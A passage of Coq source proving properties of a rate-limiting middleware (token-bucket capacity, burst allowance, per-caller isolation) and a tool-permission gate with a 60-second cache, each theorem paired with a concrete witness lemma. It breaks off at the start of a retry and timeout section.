  assert (Hx : x * refillRate b == 1 - tok).
  { unfold x. cbn [refill refillRate]. field. lra. }
  assert (Hx0 : 0 < x) by nra.
  assert (Hx2 : x <= 2) by nra.
  pose proof (Qle_ceiling x) as Hup.
  pose proof (Qceiling_lt x) as Hlow.
  pose proof (Qceiling_pos x Hx0) as Hk1.
  assert (Hk2 : (Qceiling x <= 2)%Z).
  { change 2%Z with (Qceiling (inject_Z 2)). now apply Qceiling_resp_le. }
  set (k := Qceiling x) in *.
  set (b1 := refill now b).
  assert (Etok : tokens b1 = tok) by reflexivity.
  assert (Elast : lastRefill b1 = now) by reflexivity.
  assert (Erate : refillRate b1 = refillRate b) by reflexivity.
  assert (Ecap : capacity b1 = capacity b) by reflexivity.
  split; [lia |].
  split; intros Hlater.
  - assert (H1 : 1 <= tokens (refill later b1)).
    { cbn [refill tokens]. fold b1. rewrite Etok, Elast, Erate, Ecap.
      assert (He : inject_Z k <= inject_Z (later - now) / 1000).
      { rewrite <- (elapsed_seconds now k). now apply elapsed_le. }
      assert (1 <= tok + inject_Z (later - now) / 1000 * refillRate b) by nra.
      destruct (Q.min_spec (capacity b)
                  (tok + inject_Z (later - now) / 1000 * refillRate b))
        as [[_ ->] | [_ ->]]; lra. }
    now rewrite (tryConsume_allows _ _ H1).
  - assert (H1 : tokens (refill later b1) < 1).
    { pose proof (refill_le_sum later b1) as Hs.
      rewrite Etok, Elast, Erate in Hs.
      assert (He : inject_Z (later - now) / 1000 <= inject_Z (k - 1)).
      { rewrite <- (elapsed_seconds now (k - 1)). now apply elapsed_le. }
      nra. }
    now rewrite (tryConsume_rejects _ _ H1).
Qed.

Lemma retry_delay_exact_witness :
  allowed (tryConsume 2000 (tryConsume 0 (mkBucket 30 0.5 0 0)).2).1 = true /\
  allowed (tryConsume 1000 (tryConsume 0 (mkBucket 30 0.5 0 0)).2).1 = false.
Proof.
  split.
  - apply (proj1 (proj2 (retry_delay_exact 0 (mkBucket 30 0.5 0 0)
                    (or_introl (conj eq_refl eq_refl)) eq_refl
                    ltac:(vm_compute; discriminate) 2000%Z))).
    vm_compute. discriminate.
  - apply (proj2 (proj2 (retry_delay_exact 0 (mkBucket 30 0.5 0 0)
                    (or_introl (conj eq_refl eq_refl)) eq_refl
                    ltac:(vm_compute; discriminate) 1000%Z))).
    vm_compute. discriminate.
Defined.

(** X2: a bucket never holds more than its capacity, whatever the clock
    does: from the initial state, after any refill and consume operations
    at any clock readings, the token count is at most the capacity. *)
Theorem tokens_at_most_capacity (cap rate : Q) (t0 : Z) (ops : list BucketOp) :
  tokens (runOps ops (newTokenBucket cap rate t0)) <= cap.
Proof.
  assert (H : forall b, tokens b <= capacity b ->
            tokens (runOps ops b) <= capacity b /\ capacity (runOps ops b) = capacity b).
  { induction ops as [| o ops IH]; intros b Hb; cbn.
    - auto.
    - destruct (applyOp_static b o) as (Ec & _ & _).
      assert (Hb' : tokens (applyOp b o) <= capacity (applyOp b o)).
      { rewrite Ec. pose proof (refill_le_capacity (opTime o) b) as Hle.
        destruct o as [now | now]; cbn [applyOp opTime getTokens snd] in *.
        - exact Hle.
        - unfold tryConsume.
          destruct (Qle_bool 1 (tokens (refill now b))); cbn [snd tokens]; lra. }
      destruct (IH _ Hb') as [H1 H2]. rewrite Ec in *. auto. }
  destruct (H (newTokenBucket cap rate t0)) as [H1 _]; cbn; [lra | exact H1].
Qed.

(** X3: the burst allowance is honoured.  A bucket that holds at least [n]
    tokens, and no more than its capacity, allows the next [n] attempts
    whatever their spacing, as long as the clock does not go backwards. *)
Theorem burst_allowed (ts : list Z) : forall (b : TokenBucket),
  0 <= refillRate b ->
  nondecreasing (lastRefill b) ts ->
  inject_Z (Z.of_nat (length ts)) <= tokens b <= capacity b ->
  (attempts ts b).1 = repeat allowedResult (length ts).
Proof.
  induction ts as [| t ts IH]; intros b Hr Hmono [Hn Hc]; [reflexivity |].
  destruct Hmono as [Ht Hmono].
  assert (HS : inject_Z (Z.of_nat (length (t :: ts)))
               == inject_Z (Z.of_nat (length ts)) + 1).
  { cbn [length]. rewrite Nat2Z.inj_succ. unfold Z.succ. rewrite inject_Z_plus. reflexivity. }
  assert (Hn0 : 0 <= inject_Z (Z.of_nat (length ts))).
  { change 0 with (inject_Z 0). rewrite <- Zle_Qle. lia. }
  pose proof (refill_ge t b Ht Hr Hc) as Hge.
  pose proof (refill_le_capacity t b) as Hle.
  assert (H1 : 1 <= tokens (refill t b)) by lra.
  cbn [attempts]. rewrite (tryConsume_allows _ _ H1).
  set (b1 := mkBucket _ _ _ _).
  specialize (IH b1 Hr Hmono).
  destruct (attempts ts b1) as [rs b2]. cbn [fst length repeat] in *.
  rewrite IH; [reflexivity |]. cbn [b1 tokens capacity]. lra.
Qed.

Lemma burst_allowed_witness :
  (attempts [0; 0; 1; 5; 5]%Z (newTokenBucket USER_CAPACITY USER_REFILL_RATE 0)).1
  = repeat allowedResult 5.
Proof.
  apply (burst_allowed [0; 0; 1; 5; 5]%Z (newTokenBucket USER_CAPACITY USER_REFILL_RATE 0)).
  - vm_compute. discriminate.
  - cbn. lia.
  - split; vm_compute; discriminate.
Defined.




Lemma getUserBucket_other now uid other (m : gmap Z TokenBucket) :
  uid <> other -> (getUserBucket now uid m).2 !! other = m !! other.
Proof.
  intros Hne. unfold getUserBucket.
  destruct (m !! uid); cbn [snd]; [reflexivity | now rewrite lookup_insert_ne].
Qed.

Lemma rateLimitMiddleware_other clk uid other st :
  uid <> Some other ->
  userBuckets (rateLimitMiddleware clk uid st).2 !! other = userBuckets st !! other.
Proof.
  intros Hne. unfold rateLimitMiddleware.
  destruct uid as [id |]; [| reflexivity].
  assert (Hid : id <> other) by congruence.
  assert (Hgoal :
    userBuckets
      (let '(globalResult, g1) := tryConsume (tGlobal clk) (globalBucket st) in
       if negb (allowed globalResult) then
         (Rejected ScopeGlobal (retryAfterSeconds globalResult),
          {| globalBucket := g1; userBuckets := userBuckets st |})
       else
         let '(userBucket, m1) := getUserBucket (tCreate clk) id (userBuckets st) in
         let '(userResult, u1) := tryConsume (tUser clk) userBucket in
         if negb (allowed userResult) then
           (Rejected ScopeUser (retryAfterSeconds userResult),
            {| globalBucket := g1; userBuckets := <[id := u1]> m1 |})
         else
           let '(_, u2) := getTokens (tLogUser clk) u1 in
           let '(_, g2) := getTokens (tLogGlobal clk) g1 in
           (PassedOn, {| globalBucket := g2; userBuckets := <[id := u2]> m1 |})).2
      !! other = userBuckets st !! other).
  { destruct (tryConsume (tGlobal clk) (globalBucket st)) as [gr g1].
    destruct (negb (allowed gr)); [reflexivity |].
    pose proof (getUserBucket_other (tCreate clk) id other (userBuckets st) Hid) as Hm.
    destruct (getUserBucket (tCreate clk) id (userBuckets st)) as [u m1]. cbn [snd] in Hm.
    destruct (tryConsume (tUser clk) u) as [ur u1].
    destruct (negb (allowed ur)); cbn [snd userBuckets getTokens];
      now rewrite lookup_insert_ne. }
  destruct id; [reflexivity | exact Hgoal | exact Hgoal].
Qed.

(** X5: callers do not share per-caller state.  An update from one caller
    leaves the bucket of every other caller exactly as it was, whether the
    update is passed on, rejected or skipped. *)
Theorem other_callers_untouched (clk : Clock) (uid : option Z) (other : Z) (st : State) :
  uid <> Some other ->
  userBuckets (rateLimitMiddleware clk uid st).2 !! other = userBuckets st !! other.
Proof.
  apply rateLimitMiddleware_other.
Qed.

Lemma other_callers_untouched_witness :
  userBuckets (rateLimitMiddleware (constClock 500) (Some 7%Z)
                 (sendAll [(constClock 0, Some 8%Z)] (initialState 0)).2).2 !! 8%Z
  = userBuckets (sendAll [(constClock 0, Some 8%Z)] (initialState 0)).2 !! 8%Z.
Proof.
  apply (other_callers_untouched (constClock 500) (Some 7%Z) 8%Z).
  discriminate.
Defined.

Lemma middleware_keeps_buckets clk uid st k :
  is_Some (userBuckets st !! k) ->
  is_Some (userBuckets (rateLimitMiddleware clk uid st).2 !! k).
Proof.
  intros Hk. destruct (decide (uid = Some k)) as [-> | Hne].
  - unfold rateLimitMiddleware.
    destruct k as [| id | id]; [exact Hk | |].
    all: destruct (tryConsume (tGlobal clk) (globalBucket st)) as [gr g1].
    all: destruct (negb (allowed gr)); [exact Hk |].
    all: destruct (getUserBucket (tCreate clk) _ (userBuckets st)) as [u m1].
    all: destruct (tryConsume (tUser clk) u) as [ur u1].
    all: destruct (negb (allowed ur)); cbn [snd userBuckets getTokens];
      rewrite lookup_insert_eq; eauto.
  - now rewrite rateLimitMiddleware_other.
Qed.

(** X6: buckets are never removed.  Over any sequence of updates, and
    through [cleanupOldBuckets], a caller who has a bucket keeps one, so
    the number of buckets never goes down. *)
Theorem buckets_never_evicted (reqs : list (Clock * option Z)) (st : State) (k : Z) :
  is_Some (userBuckets st !! k) ->
  is_Some (userBuckets (cleanupOldBuckets (sendAll reqs st).2).1 !! k) /\
  (size (userBuckets st) <= size (userBuckets (cleanupOldBuckets (sendAll reqs st).2).1))%nat.
Proof.
  cbn [cleanupOldBuckets fst].
  assert (H : forall st, dom (userBuckets st) ⊆ dom (userBuckets (sendAll reqs st).2)).
  { induction reqs as [| [clk uid] reqs IH]; intros st0; cbn [sendAll].
    - reflexivity.
    - pose proof (middleware_keeps_buckets clk uid st0) as Hk.
      destruct (rateLimitMiddleware clk uid st0) as [o st1]. cbn [snd] in Hk.
      specialize (IH st1). destruct (sendAll reqs st1) as [os st2]. cbn [snd] in *.
      intros x Hx. apply IH. apply elem_of_dom, Hk, elem_of_dom, Hx. }
  intros Hk. split.
  - apply elem_of_dom, H, elem_of_dom, Hk.
  - rewrite <- !size_dom. apply subseteq_size, H.
Qed.

Lemma buckets_never_evicted_witness :
  let st := (sendAll [(constClock 0, Some 8%Z)] (initialState 0)).2 in
  let reqs := repeat (constClock 0, Some 7%Z) 40 in
  is_Some (userBuckets (cleanupOldBuckets (sendAll reqs st).2).1 !! 8%Z) /\
  (size (userBuckets st) <= size (userBuckets (cleanupOldBuckets (sendAll reqs st).2).1))%nat.
Proof.
  apply (buckets_never_evicted (repeat (constClock 0, Some 7%Z) 40)
           (sendAll [(constClock 0, Some 8%Z)] (initialState 0)).2 8%Z).
  vm_compute. eauto.
Defined.

(** X7: an update that is passed on costs one token in each bucket.  When
    all clock readings of the run agree, the global bucket and the
    caller's bucket each end one token below their refilled count. *)
Theorem passed_on_takes_one_each (t : Z) (id : Z) (st : State) :
  (rateLimitMiddleware (constClock t) (Some id) st).1 = PassedOn ->
  let st' := (rateLimitMiddleware (constClock t) (Some id) st).2 in
  tokens (globalBucket st') == tokens (refill t (globalBucket st)) - 1 /\
  exists u', userBuckets st' !! id = Some u' /\
    tokens u' == tokens (refill t (getUserBucket t id (userBuckets st)).1) - 1.
Proof.
  assert (Hsame : forall b, 1 <= tokens (refill t b) ->
            tokens (refill t (tryConsume t b).2) == tokens (refill t b) - 1).
  { intros b H1. rewrite (tryConsume_allows _ _ H1). cbn [snd].
    pose proof (refill_le_capacity t b) as Hle.
    cbn [refill tokens lastRefill capacity refillRate] in *.
    pose proof (elapsed_zero t) as He. revert He.
    generalize (inject_Z (t - t) / 1000). intros e He.
    set (x := Qmin (capacity b) _) in *.
    assert (E0 : x - 1 + e * refillRate b == x - 1) by (rewrite He; ring).
    destruct (Q.min_spec (capacity b) (x - 1 + e * refillRate b)) as [[H E] | [H E]];
      rewrite E; lra. }
  unfold rateLimitMiddleware. cbn [tGlobal tCreate tUser tLogUser tLogGlobal constClock].
  assert (Hgoal :
    forall r,
    r = (let '(globalResult, g1) := tryConsume t (globalBucket st) in
       if negb (allowed globalResult) then
         (Rejected ScopeGlobal (retryAfterSeconds globalResult),
          {| globalBucket := g1; userBuckets := userBuckets st |})
       else
         let '(userBucket, m1) := getUserBucket t id (userBuckets st) in
         let '(userResult, u1) := tryConsume t userBucket in
         if negb (allowed userResult) then
           (Rejected ScopeUser (retryAfterSeconds userResult),
            {| globalBucket := g1; userBuckets := <[id := u1]> m1 |})
         else
           let '(_, u2) := getTokens t u1 in
           let '(_, g2) := getTokens t g1 in
           (PassedOn, {| globalBucket := g2; userBuckets := <[id := u2]> m1 |})) ->
    r.1 = PassedOn ->
    tokens (globalBucket r.2) == tokens (refill t (globalBucket st)) - 1 /\
    exists u', userBuckets r.2 !! id = Some u' /\
      tokens u' == tokens (refill t (getUserBucket t id (userBuckets st)).1) - 1).
  { intros r ->.
    destruct (Qlt_le_dec (tokens (refill t (globalBucket st))) 1) as [Hg | Hg].
    { rewrite (tryConsume_rejects _ _ Hg). cbn. discriminate. }
    pose proof (Hsame _ Hg) as HG.
    rewrite (tryConsume_allows _ _ Hg) in HG |- *. cbn [allowed allowedResult negb snd] in *.
    destruct (getUserBucket t id (userBuckets st)) as [u m1]. cbn [fst].
    destruct (Qlt_le_dec (tokens (refill t u)) 1) as [Hu | Hu].
    { rewrite (tryConsume_rejects _ _ Hu). cbn. discriminate. }
    pose proof (Hsame _ Hu) as HU.
    rewrite (tryConsume_allows _ _ Hu) in HU |- *. cbn [allowed allowedResult negb snd] in *.
    intros _. cbn [getTokens snd globalBucket userBuckets].
    split; [exact HG |].
    eexists. split; [apply lookup_insert_eq | exact HU]. }
  intros Hp. cbv zeta.
  destruct id; [discriminate Hp | |]; now apply Hgoal.
Qed.

Lemma passed_on_takes_one_each_witness :
  let st' := (rateLimitMiddleware (constClock 0) (Some 7%Z) (initialState 0)).2 in
  tokens (globalBucket st') == tokens (refill 0 (globalBucket (initialState 0))) - 1 /\
  exists u', userBuckets st' !! 7%Z = Some u' /\
    tokens u' == tokens (refill 0 (getUserBucket 0 7 (userBuckets (initialState 0))).1) - 1.
Proof.
  apply (passed_on_takes_one_each 0 7 (initialState 0)).
  vm_compute. reflexivity.
Defined.

End RateLimitMoreFacts.

(* ===================================================================== *)
(** ** Further properties of the permission gate *)
(* ===================================================================== *)

Module PermissionMoreFacts.
Import ToolPermission PermissionAdmin ToolPermissionFacts.

Lemma pretty_N_char_noColon x : Ascii.eqb (pretty_N_char x) ":" = false.
Proof. unfold pretty_N_char. by repeat case_match. Qed.

Lemma pretty_N_go_noColon x : forall s, noColon s = true -> noColon (pretty_N_go x s) = true.
Proof.
  induction (N.lt_wf_0 x) as [x _ IH]; intros s Hs.
  assert (x = 0 ∨ 0 < x)%N as [-> | Hx] by lia.
  - by rewrite pretty_N_go_0.
  - rewrite pretty_N_go_step by done. apply IH.
    + by apply N.div_lt.
    + cbn. by rewrite pretty_N_char_noColon.
Qed.

Lemma pretty_Z_noColon (z : Z) : noColon (pretty z) = true.
Proof.
  assert (HN : forall n : N, noColon (pretty n) = true).
  { intros n. unfold pretty, pretty_N. case_decide; [done |].
    by apply pretty_N_go_noColon. }
  destruct z as [| p | p]; unfold pretty, pretty_Z; [done | apply HN |].
  cbn. apply HN.
Qed.

Lemma colon_split (a b t t' : string) :
  noColon a = true -> noColon b = true ->
  a +:+ ":" +:+ t = b +:+ ":" +:+ t' -> a = b /\ t = t'.
Proof.
  revert b. induction a as [| c a IH]; intros [| d b] Ha Hb; simpl in *; intros E.
  - injection E as E. done.
  - injection E as Ed _. subst d. done.
  - injection E as Ec _. subst c. done.
  - injection E as Ec E. subst d.
    apply andb_true_iff in Ha as [_ Ha]. apply andb_true_iff in Hb as [_ Hb].
    destruct (IH b Ha Hb E) as [-> ->]. done.
Qed.

Lemma cacheKey_split uid uid' tool tool' :
  cacheKey uid tool = cacheKey uid' tool' -> (uid, tool) = (uid', tool').
Proof.
  unfold cacheKey. intros E.
  apply colon_split in E as [E ->]; auto using pretty_Z_noColon.
  f_equal. by apply (inj pretty).
Qed.

(** X8: distinct (caller, tool) pairs never share a cache entry: the key
    [`${userId}:${toolName}`] determines both the caller and the tool,
    also when the tool name itself contains colons. *)
Theorem cacheKey_injective (uid uid' : Z) (tool tool' : string) :
  (uid, tool) <> (uid', tool') -> cacheKey uid tool <> cacheKey uid' tool'.
Proof.
  intros Hne E. apply Hne. now apply cacheKey_split.
Qed.

Lemma cacheKey_injective_witness : cacheKey 1 "2:x" <> cacheKey 12 ":x".
Proof.
  apply (cacheKey_injective 1 12 "2:x" ":x").
  intros H. inversion H.
Defined.

Lemma cacheLookup_same_cache now key w w' :
  permissionCache w' = permissionCache w ->
  cacheTimestamps w' = cacheTimestamps w ->
  cacheLookup now key w' = cacheLookup now key w.
Proof. unfold cacheLookup. by intros -> ->. Qed.

(** X9: a decision read from the store is served from the cache for the
    next 60 seconds.  After a check that asked the store and was served
    (timestamp not 0), a check of the same pair less than [CACHE_TTL_MS]
    later returns the cached decision without a query and without touching
    the cache, whatever the table holds by then and however the store would
    answer. *)
Theorem cached_within_ttl (tCheck tStore tCheck' tStore' : Z) (reply' : StoreReply)
    (uid : Z) (tool : string) (w : World) (table' : gmap (Z * string) PermissionRow) :
  let first := checkToolPermission tCheck tStore Served uid tool w in
  let w1 := mkWorld (permissionCache (worldAfter first))
                    (cacheTimestamps (worldAfter first)) table' in
  askedStore (eventsOf first) = true ->
  tStore <> 0 -> tCheck' - tStore < CACHE_TTL_MS ->
  exists b,
    returned first = Normal b /\
    checkToolPermission tCheck' tStore' reply' uid tool w1 = (Normal b, w1, [CacheHit b]).
Proof.
  cbv zeta. intros Hasked Hnz Hfresh.
  apply check_asks_miss in Hasked.
  assert (E : checkToolPermission tCheck tStore Served uid tool w
              = (Normal (rowGrants (tool_permissions w !! (uid, tool))),
                 mkWorld (<[cacheKey uid tool := rowGrants (tool_permissions w !! (uid, tool))]>
                            (permissionCache w))
                         (<[cacheKey uid tool := tStore]> (cacheTimestamps w))
                         (tool_permissions w),
                 [StoreQuery; CacheWrite (rowGrants (tool_permissions w !! (uid, tool)))])).
  { unfold checkToolPermission, checkBody. now rewrite Hasked. }
  rewrite E. cbn [returned worldAfter fst snd permissionCache cacheTimestamps].
  eexists. split; [reflexivity |].
  unfold checkToolPermission, checkBody, cacheLookup.
  cbn [permissionCache cacheTimestamps]. rewrite !lookup_insert_eq.
  apply Z.eqb_neq in Hnz. rewrite Hnz. apply Z.ltb_lt in Hfresh. rewrite Hfresh.
  reflexivity.
Qed.

Lemma cached_within_ttl_witness :
  let first := checkToolPermission 1000 1001 Served 42 "calendar_list" emptyWorld in
  let w1 := mkWorld (permissionCache (worldAfter first))
                    (cacheTimestamps (worldAfter first))
                    {[ (42, "calendar_list") := mkRow (Some true) None None None None None ]} in
  exists b,
    returned first = Normal b /\
    checkToolPermission 61000 61000 (Failed "down") 42 "calendar_list" w1
      = (Normal b, w1, [CacheHit b]).
Proof.
  apply (cached_within_ttl 1000 1001 61000 61000 (Failed "down") 42 "calendar_list"
           emptyWorld
           {[ (42, "calendar_list") := mkRow (Some true) None None None None None ]}).
  - vm_compute. reflexivity.
  - lia.
  - reflexivity.
Defined.

(** X10: a cached decision expires.  A check made [CACHE_TTL_MS] or more
    after the entry of its pair was written asks the store, and when the
    store serves the query the answer is the table's: true exactly when the
    row exists, is allowed and is not revoked. *)
Theorem expired_entry_requeried (tCheck tStore : Z) (uid : Z) (tool : string)
    (w : World) (stamp : Z) :
  cacheTimestamps w !! cacheKey uid tool = Some stamp ->
  stamp + CACHE_TTL_MS <= tCheck ->
  let r := checkToolPermission tCheck tStore Served uid tool w in
  askedStore (eventsOf r) = true /\
  returned r = Normal (rowGrants (tool_permissions w !! (uid, tool))) /\
  cacheTimestamps (worldAfter r) !! cacheKey uid tool = Some tStore.
Proof.
  intros Hstamp Hold. cbv zeta.
  assert (Hmiss : cacheLookup tCheck (cacheKey uid tool) w = None).
  { unfold cacheLookup. rewrite Hstamp.
    destruct (permissionCache w !! cacheKey uid tool); [| reflexivity].
    assert (E : (tCheck - stamp <? CACHE_TTL_MS) = false) by (apply Z.ltb_ge; lia).
    rewrite E. now rewrite andb_false_r. }
  split; [now apply check_miss_asks |].
  unfold checkToolPermission, checkBody. rewrite Hmiss.
  cbn [returned worldAfter fst snd cacheTimestamps].
  split; [reflexivity | apply lookup_insert_eq].
Qed.

Lemma expired_entry_requeried_witness :
  let r := checkToolPermission 60001 60002 Served 42 "calendar_list" staleWorld in
  askedStore (eventsOf r) = true /\
  returned r = Normal (rowGrants (tool_permissions staleWorld !! (42, "calendar_list"))) /\
  cacheTimestamps (worldAfter r) !! cacheKey 42 "calendar_list" = Some 60002.
Proof.
  apply (expired_entry_requeried 60001 60002 42 "calendar_list" staleWorld 1).
  - vm_compute. reflexivity.
  - vm_compute. discriminate.
Defined.

(** X11: the listing and the check agree.  A tool name is in the list
    returned by [getUserToolPermissions] exactly when a check of it that
    reads the store (here: right after [clearPermissionCache]) returns
    true; and when the store does not serve the listing, the list is
    empty. *)
Theorem listing_agrees_with_check (uid : Z) (tool : string) (w : World)
    (tCheck tStore : Z) :
  (tool ∈ getUserToolPermissions Served uid w <->
   returned (checkToolPermission tCheck tStore Served uid tool (clearPermissionCache w))
     = Normal true) /\
  (forall reply, isServed reply = false -> getUserToolPermissions reply uid w = []).
Proof.
  split.
  - unfold checkToolPermission, checkBody, cacheLookup, clearPermissionCache, returned.
    cbn [permissionCache cacheTimestamps tool_permissions]. rewrite lookup_empty.
    cbn [fst]. unfold getUserToolPermissions. rewrite list_elem_of_omap. split.
    + intros ([[u t] row] & Hin & Hf). cbn [fst snd] in Hf.
      apply elem_of_map_to_list in Hin.
      destruct (u =? uid) eqn:Eu; [| discriminate Hf].
      apply Z.eqb_eq in Eu. subst u. cbn [andb] in Hf.
      destruct (rowGrants (Some row)) eqn:Er; [| discriminate Hf].
      injection Hf as ->. rewrite Hin. now rewrite Er.
    + intros [= Hr].
      destruct (tool_permissions w !! (uid, tool)) as [row |] eqn:Erow; [| discriminate Hr].
      exists ((uid, tool), row). split.
      * now apply elem_of_map_to_list.
      * cbn [fst snd]. now rewrite Z.eqb_refl, Hr.
  - intros [] H; [discriminate H | reflexivity | reflexivity].
Qed.

Lemma listing_agrees_with_check_witness :
  getUserToolPermissions (Failed "connection lost") 1 emptyWorld = [].
Proof.
  apply (proj2 (listing_agrees_with_check 1 "github_search" emptyWorld 0 0)
               (Failed "connection lost")).
  reflexivity.
Defined.

Lemma grant_establishes now uid tool who note w :
  grantedFresh uid tool (grantToolPermission now Served uid tool who note w).1.2.
Proof.
  split; cbn.
  - now rewrite lookup_insert_eq.
  - apply lookup_delete_eq.
Qed.

Lemma grant_preserves now reply uid tool tool' who note w :
  grantedFresh uid tool w ->
  grantedFresh uid tool (grantToolPermission now reply uid tool' who note w).1.2.
Proof.
  intros [Hrow Hcache]. destruct reply; [| done | done].
  split; cbn.
  - destruct (decide (tool' = tool)) as [-> | Hne].
    + now rewrite lookup_insert_eq.
    + rewrite lookup_insert_ne; [exact Hrow | congruence].
  - apply lookup_delete_None. now right.
Qed.

Lemma grantLoop_preserves env uid tool who (toolNames : list string) :
  forall i w n,
  grantedFresh uid tool w ->
  grantedFresh uid tool (grantLoop env i uid toolNames who w n).2.
Proof.
  induction toolNames as [| t rest IH]; intros i w n Hw; cbn [grantLoop snd].
  - exact Hw.
  - apply IH. now apply grant_preserves.
Qed.

Lemma grantLoop_spec env uid who (toolNames : list string) :
  forall i w n,
  (grantLoop env i uid toolNames who w n).1
    = (n + length (filter (fun j => isServed (env j).2 = true) (seq i (length toolNames))))%nat /\
  forall j tool, toolNames !! j = Some tool -> isServed (env (i + j)%nat).2 = true ->
    grantedFresh uid tool (grantLoop env i uid toolNames who w n).2.
Proof.
  induction toolNames as [| t rest IH]; intros i w n; cbn [grantLoop length seq].
  - split; [cbn; lia | intros j tool Hj; discriminate Hj].
  - destruct (IH (S i)
                (grantToolPermission (env i).1 (env i).2 uid t who (Some "Bulk grant") w).1.2
                (if (grantToolPermission (env i).1 (env i).2 uid t who (Some "Bulk grant") w).1.1
                 then S n else n)) as [Hcount Hgranted].
    split.
    + rewrite Hcount. rewrite filter_cons.
      destruct (env i).2 as [| e | e]; cbn [grantToolPermission fst isServed];
        case_decide; try discriminate; try congruence; cbn [length]; lia.
    + intros [| j] tool Hj Hs.
      * injection Hj as ->. rewrite Nat.add_0_r in Hs.
        apply grantLoop_preserves.
        destruct (env i).2; [apply grant_establishes | discriminate Hs | discriminate Hs].
      * apply (Hgranted j tool Hj). now rewrite <- Nat.add_succ_comm in Hs.
Qed.

(** X12: the bulk grant counts, and keeps, exactly the grants the store
    served.  [grantAllTools] returns the number of names whose grant was
    served, never more than the number of names; and every name whose
    grant was served is permitted on a following check that reads the
    store, whatever happened to the names after it in the list. *)
Theorem bulk_grant_counts_served (env : nat -> Z * StoreReply) (uid : Z)
    (toolNames : list string) (who : option Z) (w : World) :
  let r := grantAllTools env uid toolNames who w in
  r.1 = length (filter (fun j => isServed (env j).2 = true) (seq 0 (length toolNames))) /\
  (r.1 <= length toolNames)%nat /\
  forall j tool tCheck tStore,
    toolNames !! j = Some tool -> isServed (env j).2 = true ->
    returned (checkToolPermission tCheck tStore Served uid tool r.2) = Normal true.
Proof.
  cbv zeta. unfold grantAllTools.
  destruct (grantLoop_spec env uid who toolNames 0 w 0) as [Hcount Hgranted].
  split; [exact Hcount |]. split.
  - rewrite Hcount. cbn [Nat.add].
    etransitivity; [apply length_filter |]. now rewrite length_seq.
  - intros j tool tCheck tStore Hj Hs.
    destruct (Hgranted j tool Hj Hs) as [Hrow Hcache].
    unfold checkToolPermission, checkBody, cacheLookup, returned.
    rewrite Hcache. cbn [fst]. now rewrite Hrow.
Qed.

Lemma bulk_grant_counts_served_witness :
  let env := fun j : nat => (5000, if (j =? 1)%nat then Failed "busy" else Served) in
  let r := grantAllTools env 42 ["gmail_read_message"; "drive_read_file"; "calendar_get_event"]
             (Some 1) emptyWorld in
  r.1 = 2%nat /\
  returned (checkToolPermission 6000 6000 Served 42 "calendar_get_event" r.2) = Normal true.
Proof.
  pose proof (bulk_grant_counts_served
                (fun j : nat => (5000, if (j =? 1)%nat then Failed "busy" else Served)) 42
                ["gmail_read_message"; "drive_read_file"; "calendar_get_event"]
                (Some 1) emptyWorld) as (H1 & _ & H3).
  split.
  - exact H1.
  - apply (H3 2%nat "calendar_get_event" 6000 6000); reflexivity.
Defined.

(** X13: granting or revoking one pair does not disturb another.  After a
    grant or a revoke for (caller, tool), a check of any other pair returns
    what it would have returned before, and asks the store or not as
    before. *)
Theorem other_pairs_undisturbed (now : Z) (reply reply' : StoreReply) (uid uid' : Z)
    (tool tool' : string) (who : option Z) (note : option string)
    (tCheck tStore : Z) (w : World) :
  (uid, tool) <> (uid', tool') ->
  let before := checkToolPermission tCheck tStore reply' uid' tool' w in
  let afterGrant := checkToolPermission tCheck tStore reply' uid' tool'
                      (grantToolPermission now reply uid tool who note w).1.2 in
  let afterRevoke := checkToolPermission tCheck tStore reply' uid' tool'
                       (revokeToolPermission now reply uid tool who w).1.2 in
  returned afterGrant = returned before /\ eventsOf afterGrant = eventsOf before /\
  returned afterRevoke = returned before /\ eventsOf afterRevoke = eventsOf before.
Proof.
  intros Hne. cbv zeta.
  assert (Hkey : cacheKey uid tool <> cacheKey uid' tool')
    by (intros E; now apply Hne, cacheKey_split).
  assert (Hgen : forall w1,
            cacheLookup tCheck (cacheKey uid' tool') w1
              = cacheLookup tCheck (cacheKey uid' tool') w ->
            tool_permissions w1 !! (uid', tool') = tool_permissions w !! (uid', tool') ->
            returned (checkToolPermission tCheck tStore reply' uid' tool' w1)
              = returned (checkToolPermission tCheck tStore reply' uid' tool' w) /\
            eventsOf (checkToolPermission tCheck tStore reply' uid' tool' w1)
              = eventsOf (checkToolPermission tCheck tStore reply' uid' tool' w)).
  { intros w1 Hc Ht. unfold checkToolPermission, checkBody. rewrite Hc, Ht.
    destruct (cacheLookup tCheck (cacheKey uid' tool') w); [split; reflexivity |].
    destruct reply'; split; reflexivity. }
  assert (Hinv : forall w1, cacheLookup tCheck (cacheKey uid' tool')
                              (invalidate (cacheKey uid tool) w1)
                            = cacheLookup tCheck (cacheKey uid' tool') w1).
  { intros w1. unfold cacheLookup, invalidate. cbn [permissionCache cacheTimestamps].
    now rewrite !lookup_delete_ne. }
  destruct reply as [| e | e]; cbn [grantToolPermission revokeToolPermission fst snd];
    try (repeat split; reflexivity).
  destruct (Hgen (invalidate (cacheKey uid tool)
                    (mkWorld (permissionCache w) (cacheTimestamps w)
                       (<[(uid, tool) := upsertGrant now who note
                                           (tool_permissions w !! (uid, tool))]>
                          (tool_permissions w))))) as [G1 G2].
  { now rewrite Hinv. }
  { cbn. now rewrite lookup_insert_ne. }
  destruct (Hgen (invalidate (cacheKey uid tool)
                    (mkWorld (permissionCache w) (cacheTimestamps w)
                       (alter (updateRevoke now who) (uid, tool) (tool_permissions w)))))
    as [R1 R2].
  { now rewrite Hinv. }
  { cbn. now rewrite lookup_alter_ne. }
  auto.
Qed.

Lemma other_pairs_undisturbed_witness :
  let before := checkToolPermission 70 70 Served 42 "calendar_list" staleWorld in
  let afterGrant := checkToolPermission 70 70 Served 42 "calendar_list"
                      (grantToolPermission 50 Served 42 "drive_read_file" None None staleWorld).1.2 in
  let afterRevoke := checkToolPermission 70 70 Served 42 "calendar_list"
                       (revokeToolPermission 50 Served 42 "drive_read_file" None staleWorld).1.2 in
  returned afterGrant = returned before /\ eventsOf afterGrant = eventsOf before /\
  returned afterRevoke = returned before /\ eventsOf afterRevoke = eventsOf before.
Proof.
  apply (other_pairs_undisturbed 50 Served Served 42 42 "drive_read_file" "calendar_list"
           None None 70 70 staleWorld).
  intros H. inversion H.
Defined.
End PermissionMoreFacts.

(* ===================================================================== *)
(** ** Properties of the retry loop *)
(* ===================================================================== *)

Module RetryFacts.
Import Timeout Retry TimeoutFacts.

Lemma timesOut_result {T} (op : Operation T) timeoutMs msg tie :
  timesOut op timeoutMs ->
  result (executeWithTimeout op timeoutMs msg tie)
    = Some (Rejected (timeoutFailure msg timeoutMs)) /\
  settledAt op timeoutMs = timeoutMs.
